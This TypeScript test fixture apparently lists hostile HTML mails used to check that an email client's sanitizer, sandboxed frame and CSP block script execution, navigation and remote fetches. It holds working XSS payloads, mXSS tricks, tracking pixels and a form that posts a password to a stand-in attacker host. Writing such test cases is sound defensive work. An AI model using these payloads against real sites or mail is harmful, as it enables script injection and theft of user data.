/**
 * Our own hostile HTML mails for the reading view. Each would run script, navigate, submit,
 * or fetch from a host other than Switchyard if anything let it through: the sanitizer on
 * the server, the sandboxed frame, or the frame's CSP.
 */
export const EVIL = 'http://evil.example';

export const HOSTILE_CASES: { name: string; html: string }[] = [
  { name: 'script tags', html: `<p>hi</p><script>alert('script')</script><script src="${EVIL}/x.js"></script>` },
  { name: 'event handlers', html: `<img src="x" onerror="alert('onerror')"><body onload="alert('onload')"><div onmouseover="alert(1)">hover</div><svg onload="alert(2)"></svg>` },
  { name: 'javascript: URLs', html: `<a href="javascript:alert('href')">click</a><a href="JaVaScRiPt&colon;alert(1)">x</a><iframe src="javascript:alert(3)"></iframe><img src="javascript:alert(4)">` },
  { name: 'CSS url functions', html: `<div style="background:url(${EVIL}/bg.png)">bg</div><div style="background-image:image-set('${EVIL}/a.png' 1x)">set</div><p style="list-style-image:url('${EVIL}/l.png')">l</p><div style="behavior:url(${EVIL}/x.htc)">b</div><style>@import url(${EVIL}/i.css); body{background:url(${EVIL}/s.png)}</style><link rel="stylesheet" href="${EVIL}/l.css">` },
  { name: 'SVG and MathML', html: `<svg><script>alert('svg')</script><image href="${EVIL}/svg.png"/><a xlink:href="javascript:alert(5)"><text>t</text></a><animate attributeName="href" to="javascript:alert(6)"/></svg><math><mtext><table><mglyph><style><img src=x onerror=alert('mathml')></style></mglyph></table></mtext></math>` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>refresh</p>` },
  { name: 'forms', html: `<form action="${EVIL}/steal" method="post"><input name="password" value="x"><button>Go</button></form><button formaction="${EVIL}/f">f</button>` },
  { name: 'base href', html: `<base href="${EVIL}/"><a href="relative">rel</a><img src="relative.png">` },
  { name: 'remote images, objects and frames', html: `<img src="${EVIL}/track.gif" width=1 height=1><object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><iframe src="${EVIL}/frame"></iframe><video poster="${EVIL}/p.png"></video><audio src="${EVIL}/a.mp3"></audio>` },
  { name: 'srcset and mixed-case tricks', html: `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x"><IMG SRC=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(7)><<script>alert(8)//<</script>` },
];
